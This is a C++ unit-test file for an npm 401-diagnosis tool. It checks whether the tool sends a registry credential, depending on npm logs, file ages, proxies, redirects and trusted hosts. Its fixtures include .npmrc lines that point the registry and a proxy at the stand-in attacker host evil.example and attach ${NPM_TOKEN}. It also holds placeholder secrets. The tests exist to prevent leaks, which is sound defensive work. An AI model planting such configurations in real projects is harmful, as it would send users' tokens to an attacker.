// TRUST 1 and 3 from gather to the last request: what a log is good for, and how often a password goes out.
#include <gtest/gtest.h>

#include <algorithm>

#include "doctor/doctor.h"
#include "doctor/trust.h"
#include "support/fakes.h"

namespace e401::doctor {
namespace {

const std::string project = "/home/u/project";
const std::string own_log = "/home/u/.npm/_logs/2026-09-21T10_00_00_000Z-debug-0.log";
const std::string secret = "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

std::string log_of(const std::string& url, const std::string& argv = "\"install\"") {
  return "1 info using npm@12.2.0\n2 info using node@v24.0.0\n3 verbose title npm install\n4 verbose argv " + argv +
         "\n5 http fetch GET 401 " + url +
         " 9ms (cache skip)\n6 verbose stack HttpErrorGeneral: 401 Unauthorized - GET " + url + "\n7 verbose cwd " +
         project + "\n8 error code E401\n9 error 401 Unauthorized - GET " + url + "\n10 verbose exit 1\n";
}

struct Place {
  support::Machine machine;
  Place() {
    machine.files.file(project + "/package.json", R"({"name":"a","dependencies":{"zz":"1"}})");
    machine.environment.cwd = project;
    machine.environment.passwd_home = "/home/u";
    machine.environment.variables = {{"HOME", "/home/u"}, {"NPM_TOKEN", secret}};
    machine.http.answer("GET https://evil.example/* with any: 401 {}");
  }
  Place& file(const std::string& path, const std::string& text, std::int64_t age_s = 0) {
    machine.files.file(path, text);
    machine.files.node(path).modified_s = machine.clock.seconds - age_s;
    return *this;
  }
  std::vector<findings::Skipped> skipped;
  rules::Facts look() {
    const world::World world = machine.world();
    rules::Facts facts = gather(world, {}, skipped);
    probe(world, {}, facts, skipped);
    return facts;
  }
  std::size_t sent() const {
    const auto& all = machine.http.requests();
    return static_cast<std::size_t>(
        std::count_if(all.begin(), all.end(), [](const auto& r) { return !r.credential.empty(); }));
  }
};

const std::string names_evil = "registry=https://evil.example/a/\n//evil.example/a/:_authToken=${NPM_TOKEN}\n";

TEST(Log, of_npms_own_vouches_for_a_key_that_covers_an_address_in_it) {
  Place place;
  place.file(project + "/.npmrc", names_evil, 100).file(own_log, log_of("https://evil.example/a/zz"), 50);
  EXPECT_TRUE(place.look().log_is_npms);
  EXPECT_GT(place.sent(), 0u);
}

std::string good_log_of(const std::string& url) {
  return "1 info using npm@12.2.0\n2 verbose title npm ci\n3 verbose argv \"ci\"\n4 http fetch GET 200 " + url +
         " 9ms (cache miss)\n5 verbose cwd " + project + "\n6 verbose exit 0\n7 info ok\n";
}

TEST(Log, of_a_run_that_went_well_vouches_as_well) {
  Place place;
  place.file(project + "/.npmrc", names_evil, 100).file(own_log, good_log_of("https://evil.example/a/zz"), 50);
  EXPECT_FALSE(place.look().log);
  EXPECT_GT(place.sent(), 0u);
}

TEST(Log, of_a_run_that_went_well_vouches_for_nothing_else) {
  Place later, elsewhere, brought_along;
  later.file(project + "/.npmrc", names_evil, 10).file(own_log, good_log_of("https://evil.example/a/zz"), 50);
  elsewhere.file(project + "/.npmrc", names_evil, 100).file(own_log, good_log_of("https://evil.example/b/zz"), 50);
  brought_along.file(project + "/.npmrc", names_evil + "logs-dir=./_logs\n", 100)
      .file(project + "/_logs/2026-09-21T10_00_00_000Z-debug-0.log", good_log_of("https://evil.example/a/zz"), 50);
  for (Place* place : {&later, &elsewhere, &brought_along}) {
    place->look();
    EXPECT_EQ(place->sent(), 0u);
  }
}

TEST(Log, vouches_for_nothing_that_came_later) {
  Place place;
  place.file(project + "/.npmrc", names_evil, 10).file(own_log, log_of("https://evil.example/a/zz"), 50);
  EXPECT_TRUE(place.look().project_changed_since_log);
  EXPECT_EQ(place.sent(), 0u);
}

TEST(Log, vouches_for_no_other_path_of_the_host) {
  Place place;
  place.file(project + "/.npmrc", names_evil, 100).file(own_log, log_of("https://evil.example/b/zz"), 50);
  place.look();
  EXPECT_EQ(place.sent(), 0u);
}

TEST(Log, excuses_no_proxy_of_a_strangers) {
  Place place;
  place.file(project + "/.npmrc", names_evil + "proxy=http://evil.example:1/\n", 100)
      .file(own_log, log_of("https://evil.example/a/zz"), 50);
  place.look();
  EXPECT_EQ(place.sent(), 0u);
}

TEST(Log, where_the_project_says_gives_no_command_line) {
  for (const auto& [line, folder] :
       {std::pair{"logs-dir=./_logs\n", "/_logs/"}, std::pair{"cache=./_c\n", "/_c/_logs/"}}) {
    Place place;
    place.file(project + "/.npmrc", line, 100)
        .file(project + folder + "2026-09-21T10_00_00_000Z-debug-0.log",
              log_of("https://evil.example/zz",
                     R"("install" "--registry=https://evil.example/" "--//evil.example/:_authToken=${NPM_TOKEN}")"),
              50);
    const rules::Facts facts = place.look();
    ASSERT_TRUE(facts.log) << line;
    EXPECT_FALSE(facts.log_is_npms) << line;
    EXPECT_TRUE(facts.config.situation.argv.empty()) << line;
    EXPECT_EQ(place.sent(), 0u) << line;
  }
}

TEST(Log, of_npms_own_is_found_although_the_project_names_another_folder) {
  Place place;
  place.file(project + "/.npmrc", "logs-dir=./_logs\n", 100)
      .file(own_log, log_of("https://evil.example/zz", R"("install" "--registry=https://evil.example/")"), 50);
  const rules::Facts facts = place.look();
  EXPECT_TRUE(facts.log_is_npms);
  EXPECT_EQ(facts.config.registry(), "https://evil.example/");
}

TEST(Log, in_a_home_that_lies_in_the_project_may_have_come_with_it) {
  Place place;
  place.machine.environment.variables[0].second = project + "/home";
  place.file(project + "/home/.npm/_logs/2026-09-21T10_00_00_000Z-debug-0.log", log_of("https://evil.example/zz"), 50);
  EXPECT_FALSE(place.look().log_is_npms);
}

TEST(Asking, a_strangers_proxy_with_a_variable_in_it_is_asked_nothing) {
  Place place;
  place.file(project + "/.npmrc", "proxy=http://x:${NPM_TOKEN}@evil.example/\n");
  const rules::Facts facts = place.look();
  EXPECT_TRUE(place.machine.http.requests().empty());
  EXPECT_FALSE(place.skipped.empty());
}

TEST(Asking, the_text_of_an_unset_variable_is_sent_as_npm_sends_it) {
  Place place;
  place.file(project + "/.npmrc", names_evil);
  place.look();
  EXPECT_EQ(place.sent(), 0u);  // NPM_TOKEN has a value
  place.machine.environment.variables.pop_back();
  place.look();
  EXPECT_GT(place.sent(), 0u);
}

constexpr const char* basic = "am9lOnNlY3JldC1wYXNzd29yZA==";

TEST(Asking, a_password_that_is_answered_by_a_redirect_is_not_sent_again) {
  Place place;
  place.file("/home/u/.npmrc",
             std::string("registry=https://npm.acme.example/\n//npm.acme.example/:_auth=") + basic + "\n");
  place.machine.http.answer(
      "GET https://npm.acme.example/* with any: 302 [location: https://npm.acme.example/login] {}");
  const rules::Facts facts = place.look();
  EXPECT_EQ(place.sent(), 1u);
  EXPECT_NE(facts.concerns.front().as_sent.not_asked_why.find("sent once only"), std::string::npos);
  EXPECT_TRUE(std::any_of(place.skipped.begin(), place.skipped.end(), [](const findings::Skipped& s) {
    return s.mattered && s.why.find("sent once only") != std::string::npos;
  }));
}

TEST(Asking, a_password_goes_at_once_where_the_same_request_without_it_was_led) {
  Place place;
  place.file("/home/u/.npmrc",
             std::string("registry=https://npm.acme.example/old/\n//npm.acme.example/:_auth=") + basic + "\n");
  place.machine.http
      .answer("GET https://npm.acme.example/old/zz with any: 301 [location: https://npm.acme.example/new/zz/] {}")
      .answer("GET https://npm.acme.example/new/zz/ with any: 200 {\"versions\":{}}");
  const rules::Facts facts = place.look();
  EXPECT_EQ(place.sent(), 1u);
  EXPECT_EQ(facts.concerns.front().as_sent.status, 200);
  EXPECT_EQ(facts.concerns.front().as_sent.hops, std::vector<std::string>{"https://npm.acme.example/new/zz/"});
}

TEST(Trust, whoami_and_ping_go_where_the_person_trusts_the_host) {
  Place place;
  place.file(project + "/.npmrc", "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n");
  const npm::Config config = place.look().config;
  const auto url = npm::parse_url("https://evil.example/-/whoami");
  const auto credential = npm::credential_for_request(config, *url).sent;
  ASSERT_TRUE(credential);
  const auto refusal = [&](const policy::TrustedHosts& trusted) {
    return refusal_to_do_as_npm(config, trusted, "https://evil.example/", *url, &*credential);
  };
  EXPECT_TRUE(refusal({}));
  EXPECT_TRUE(refusal(policy::TrustedHosts({*policy::parse_trusted_place("other.example")})));
  EXPECT_FALSE(refusal(policy::TrustedHosts({*policy::parse_trusted_place("evil.example")})));
}

}  // namespace
}  // namespace e401::doctor
